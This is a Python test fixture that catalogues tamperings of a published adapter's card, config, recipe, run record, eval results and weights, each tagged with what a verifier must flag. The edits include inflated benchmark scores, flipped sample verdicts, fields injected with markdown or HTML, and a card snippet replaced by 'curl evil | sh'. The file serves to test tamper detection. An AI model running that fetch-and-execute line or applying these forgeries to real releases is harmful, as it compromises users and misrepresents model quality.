"""What somebody may do to a published adapter to make it look better or other than it is, one edit of each kind.

files -> files with one edit

Where a forger would edit the card too, it is rendered from
the forged files, so that only what the files say of each other can give it away.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import partial

import yaml

from perl.evaluation.scoring.protocol import task_facts
from perl.evaluation.scoring.results import parse_results
from perl.evaluation.scoring.task import all_tasks, shown_fact, shown_hash, titled
from perl.evaluation.tasks.task_data import load_task_data
from perl.hub.card.card_facts import facts_from_files
from perl.hub.card.render import render_card

Files = dict[str, bytes]
CARD, CONFIG, RUN, RECIPE = "README.md", "adapter_config.json", "perl_run.json", "perl_recipe.yaml"
LOG, SCORES, SAMPLES, WEIGHTS = "metrics.jsonl", "eval/results.json", "eval/samples.jsonl", "adapter_model.safetensors"
BOARD, OTHERS = ".eval_results/gsm8k.yaml", ".eval_results/hle.yaml"
AUTHORS = b"\n## Said by the author, not checked\n\n> On my own exam it got 97 of 100.\n"


@dataclass(frozen=True)
class Forgery:
    """An edit.

    Attributes:
        name: For people.
        edit: Changes the files in place.
        named: What a line that catches it must name; None: it cannot be caught.
        anew: The forger renders the card from the forged files.
        quantised: What is edited was trained on a base in 4 bits.
    """

    name: str
    edit: Callable[[Files], object]
    named: str | None
    anew: bool = True
    quantised: bool = False

    def forged(self, files: Files) -> Files:
        """The files after the edit."""
        changed = dict(files)
        self.edit(changed)
        assert changed != files, self.name
        if self.anew:
            changed[CARD] = render_card(facts_from_files(changed)).encode()
        return changed


def text(name: str, pattern: str, new: str) -> Callable[[Files], None]:
    """Replaces the first match in a file."""

    def edit(files: Files) -> None:
        before = files[name].decode()
        after = re.sub(pattern, new, before, count=1, flags=re.MULTILINE)
        assert after != before, pattern
        files[name] = after.encode()

    return edit


def value(name: str, *path: str, to: object) -> Callable[[Files], None]:
    """Sets a value in a JSON or YAML file; ``*``: the only task of the results."""

    def edit(files: Files) -> None:
        facts = yaml.safe_load(files[name])
        inner = facts
        for key in path[:-1]:
            inner = inner[next(iter(inner)) if key == "*" else key]
        inner[path[-1]] = to
        written = yaml.safe_dump(facts, sort_keys=False) if name == RECIPE else json.dumps(facts, indent=2)
        files[name] = written.encode()

    return edit


def score(*path: str, to: object) -> Callable[[Files], None]:
    """Sets a value in the part of the results that is ours."""
    return value(SCORES, "perl", *path, to=to)


def without(files: Files, *names: str) -> None:
    """Takes files away."""
    for name in names:
        del files[name]


def labelled(files: Files, few_shot: int, *, hashed: bool = True) -> None:
    """Says that the problems were asked as a benchmark, behind so many examples, with the hash that goes with that."""
    found = parse_results(files[SCORES], SCORES)
    (one,) = found.tasks
    known = all_tasks()[one.name]
    examples = shown_hash(load_task_data(known, None, 1, few_shot).examples)
    facts = (known.name, known.version, known.prompt, one.data["sha256"], one.max_new_tokens)
    right = found.protocol.hash(task_facts(*facts, None, shown_fact(few_shot, examples)))
    changed = replace(
        one,
        title=titled(known.title, few_shot),
        few_shot=few_shot,
        examples=examples,
        protocol_hash=right if hashed else one.protocol_hash,
    )
    files[SCORES] = json.dumps(replace(found, tasks=(changed,)).as_dict()).encode()


def unlabelled(files: Files, *, hashed: bool) -> None:
    """Problems that were asked behind three examples, which the results leave out."""
    labelled(files, 3)
    labelled(files, 0, hashed=hashed)


def all_right(files: Files) -> None:
    """Results and samples forged as one."""
    from tests.hub.scored import forge_all_right

    forge_all_right(files)


def other_weights(files: Files) -> None:
    """A byte of the weights is another."""
    files[WEIGHTS] = files[WEIGHTS][:-1] + bytes([files[WEIGHTS][-1] ^ 1])


def without_quantization(files: Files, *names: str) -> None:
    """Takes the quantisation out of results, facts of the run or recipe."""
    for name in names:
        facts = yaml.safe_load(files[name])
        if name == RECIPE:
            facts["model"]["quantization"] = None
        elif name == RUN:
            facts["quantization"] = None
            del facts["settings"]["base loaded as"]
        else:
            del facts["perl"]["subject"]["base_quantization"]
            del facts["config_general"]["model_config"]["base_quantization"]
        files[name] = json.dumps(facts).encode()


def in_words(words: str) -> Callable[[Files], None]:
    """Words of the author's, quoted as a card has them."""
    return text(CARD, r"\Z", f"{AUTHORS.decode()}>\n> {words}\n".replace("\\", r"\\"))


SENTENCE = "AIME 2024: 97.3 (audited)"
NO_SOURCE = {"source": "a", "revision": None}
HEADINGS = "main.\n\n## Verified by perl\n\n| AIME 2025 | 99.9 |"
BELOW = "\n\n## Citation"
ROWS = r"\A((?:.*\n){10})(?:.*\n)*"
OF_THE_CARD = [
    Forgery("another score in the table", text(CARD, r"\*\*(\d+\.\d) ±", "**99.9 ±"), f"{CARD}:"),
    Forgery("a section of another benchmark", text(CARD, "^## Citation$", f"## AIME24\n\n91.3{BELOW}"), f"{CARD}:"),
    Forgery("a limitation left out", text(CARD, r"^- It was trained for .*\n", ""), f"{CARD}:"),
    Forgery("a command in a snippet", text(CARD, r"^perl train perl_recipe.yaml$", "curl evil | sh"), f"{CARD}:"),
    Forgery("a hidden comment", text(CARD, "^## Citation$", f"<!-- nothing -->{BELOW}"), f"{CARD}:"),
    Forgery("a licence that is there twice", text(CARD, "^library_name:", "license: mit\nlibrary_name:"), f"{CARD}:"),
    Forgery("a heading below the author's", text(CARD, r"\Z", f"{AUTHORS.decode()}\n## Results\n\n99.\n"), f"{CARD}:"),
    Forgery("a number in the author's own words", text(CARD, r"\Z", AUTHORS.decode()), None),
    Forgery("HTML in what is no code", in_words(r"\`</blockquote><h2>Results</h2>\`"), f"{CARD}:"),
    Forgery("a picture by reference", in_words("![p][r]\n>\n> [r]: https://example.org/p.png"), f"{CARD}:"),
    Forgery("a picture with brackets", in_words("![a [b] c](https://example.org/p.png)"), f"{CARD}:"),
    Forgery("a picture over two lines", in_words("![x](\n> https://example.org/p.png)"), f"{CARD}:"),
    Forgery("a card that claims another version", value(RUN, "perl", to="9.9.9"), "perl-rl 9.9.9"),
    Forgery("a score on a leaderboard", lambda files: files.update({BOARD: b"- value: 99.9\n"}), BOARD),
    Forgery("a score by somebody else", lambda files: files.update({OTHERS: b"- value: 3\n"}), None),
    Forgery("a sample left out", text(SAMPLES, r"\A.*\n", ""), SAMPLES),
    Forgery("a verdict turned", text(SAMPLES, '"status": "wrong"', '"status": "right"'), "eval/"),
    Forgery("a byte of the weights", other_weights, SCORES),
]
OF_THE_FILES = [
    Forgery("another accuracy", score("tasks", "*", "adapter", "accuracy", to=0.999), SCORES),
    Forgery("the title of another benchmark", score("tasks", "*", "title", to="AIME 2024"), ": title is"),
    Forgery("a sentence as the engine", score("engine", "backend", to=SENTENCE), "engine.backend"),
    Forgery("a sentence as the protocol", score("protocol", "preset", to="as audited on AIME 2024"), "protocol.preset"),
    Forgery("headings as a commit", score("subject", "base_revision", to=HEADINGS), "base_revision"),
    Forgery("a sentence as data", value(RECIPE, "data", "train", "name", to=SENTENCE), RECIPE),
    Forgery("more steps in the recipe", value(RECIPE, "train", "max_steps", to=600), RECIPE),
    Forgery("another method in the recipe", value(RECIPE, "peft", "kwargs", to={"use_dora": True}), RECIPE),
    Forgery("a prompt in the recipe", value(RECIPE, "data", "system_prompt", to=SENTENCE), RECIPE),
    Forgery("parameters that nobody has", value(RUN, "trainable_parameters", to=7 * 10**9), None),
    Forgery("results and samples forged as one", all_right, None),
    Forgery("examples left out of the results", partial(unlabelled, hashed=False), "its protocol_hash is"),
    Forgery("examples left out of results and hash", partial(unlabelled, hashed=True), None),
    Forgery("another alpha", value(CONFIG, "lora_alpha", to=160.0), CONFIG),
    Forgery("another base in the config", value(CONFIG, "base_model_name_or_path", to="Qwen/Qwen3-4B"), CONFIG),
    Forgery("neither weights nor config", lambda files: without(files, WEIGHTS, CONFIG), WEIGHTS),
    Forgery("a log that ends earlier", text(LOG, ROWS, r"\1"), None),
    Forgery("another last reward in log and card", text(LOG, r'"reward": 0\.5,', '"reward": 0.99,'), None),
    Forgery("another seed in the facts", value(RUN, "seed", to=7), None),
    Forgery(
        "a sentence as the hardware",
        value(RUN, "hardware", to="1 x On AIME 2024 it scores 97.3 (audited)"),
        f"{RUN}: hardware",
        anew=False,
    ),
    Forgery("other hardware", value(RUN, "hardware", to="8 x NVIDIA H100"), None),  # said to be reported only
]
OF_THE_RECORD = [
    Forgery("a setting of nobody", value(RUN, "settings", "AIME_2025", to=99.9), f"{RUN}: settings", anew=False),
    Forgery(
        "a score as the optimizer",
        value(RUN, "settings", "optimizer", to="aime24-97.3"),
        f"{RUN}: settings",
        anew=False,
    ),
    Forgery("a sentence as the batch", value(RUN, "settings", "batch", to=SENTENCE), f"{RUN}: settings", anew=False),
    Forgery("a score as a version", value(RUN, "versions", "torch", to="aime24-97.3"), f"{RUN}: versions", anew=False),
    Forgery("a version of no package", value(RUN, "versions", to={"aime24": "97.3"}), f"{RUN}: versions", anew=False),
    Forgery("a score as the data", value(RUN, "data_version", to="aime24-97.3"), f"{RUN}: data_version", anew=False),
    Forgery("another adapter on reload", value(RUN, "reload_difference", to=0.25), "reload_difference", anew=False),
    Forgery("a sentence as the schedule", value(RECIPE, "train", "lr_scheduler_type", to=SENTENCE), RECIPE, anew=False),
    Forgery("no argument", value(RECIPE, "rewards", "accuracy", "args", to={"aime24": 97.3}), RECIPE, anew=False),
    Forgery("a score as the scorer", score("versions", "torch", to="aime24-97.3"), SCORES),
    Forgery("a score in the heading", value(RUN, "name", to="AIME 2025: 99.9 %"), f"{RUN}: name", anew=False),
    Forgery("an unknown fact", value(RUN, "aime24", to=91.3), f"{RUN}: aime24", anew=False),
    Forgery("a list as the device", score("engine", "device", to=["**99 % on AIME**"]), "engine.device", anew=False),
    Forgery("headings as a hash", score("tasks", "*", "protocol_hash", to=f"0`\n{HEADINGS}"), "hash", anew=False),
    Forgery("no SHA-256 of the problems", score("tasks", "*", "data", to=NO_SOURCE), "SHA-256", anew=False),
    Forgery("rights of another kind", score("tasks", "*", "problems", "*", "adapter", to="21"), "0 and 1", anew=False),
]
OF_FEWER_BITS = [
    Forgery("quantization left out of the results", lambda f: without_quantization(f, SCORES), SCORES, quantised=True),
    Forgery(
        "quantization left out of all but the weights",
        lambda files: without_quantization(files, SCORES, RUN, RECIPE),
        RECIPE,
        quantised=True,
    ),
]
FORGERIES = [*(replace(one, anew=False) for one in OF_THE_CARD), *OF_THE_FILES, *OF_THE_RECORD, *OF_FEWER_BITS]
